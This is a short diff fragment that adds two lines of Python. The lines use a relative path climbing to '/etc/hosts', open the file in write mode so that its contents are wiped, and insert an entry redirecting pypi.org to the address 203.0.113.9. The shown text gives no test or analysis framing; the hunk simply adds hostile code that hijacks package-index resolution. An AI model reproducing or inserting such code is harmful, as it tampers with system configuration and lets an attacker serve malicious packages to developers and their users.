@@ -1,0 +1,2 @@
+with open("../../../etc/hosts", "w") as fh:
+    fh.write("203.0.113.9 pypi.org\n")
